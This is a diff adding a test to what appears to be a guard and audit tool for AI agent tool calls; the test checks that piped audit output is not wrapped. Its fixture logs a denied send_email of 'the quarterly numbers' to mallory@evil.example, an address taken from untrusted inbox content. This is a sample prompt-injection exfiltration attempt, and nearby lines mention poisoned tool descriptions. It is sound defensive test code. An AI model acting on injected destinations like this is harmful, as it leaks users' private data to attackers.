@@ -82,3 +82,37 @@ def test_tail_content_record_without_severity(tmp_path: Path) -> None:
     assert "a.b" in rows[0] and "in definition" in rows[0]
     assert "content.poisoned_definition" in rows[1]
     assert "hidden: injection in the description" in rows[1]
+
+
+def test_tail_on_a_pipe_does_not_wrap_a_reason_word_by_word(tmp_path: Path) -> None:
+    """Piped, with no COLUMNS, the table is 160 columns wide, not Rich's 80 (newcomer trial,
+    session 8: a reason came out one word per line)."""
+    from cordon.audit.log import AuditLog
+
+    path = tmp_path / "audit.jsonl"
+    log = AuditLog(path)
+    reason = "destination first appeared in untrusted tool output (read_inbox)"
+    log.write(
+        {
+            "kind": "verdict",
+            "server": "mail",
+            "tool": "send_email",
+            "arguments": {"to": "mallory@evil.example", "body": "the quarterly numbers"},
+            "verdict": "deny",
+            "rule": "taint.seen_in_output",
+            "reason": reason,
+        }
+    )
+    log.close()
+    env = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES")}
+    done = subprocess.run(
+        [*cordon_exe(), "audit", "tail", str(path)],
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    # (at Rich's 80 columns the reason column is a few characters wide)
+    phrase = "destination first appeared in untrusted tool output"
+    assert any(phrase in line for line in done.stdout.splitlines()), done.stdout
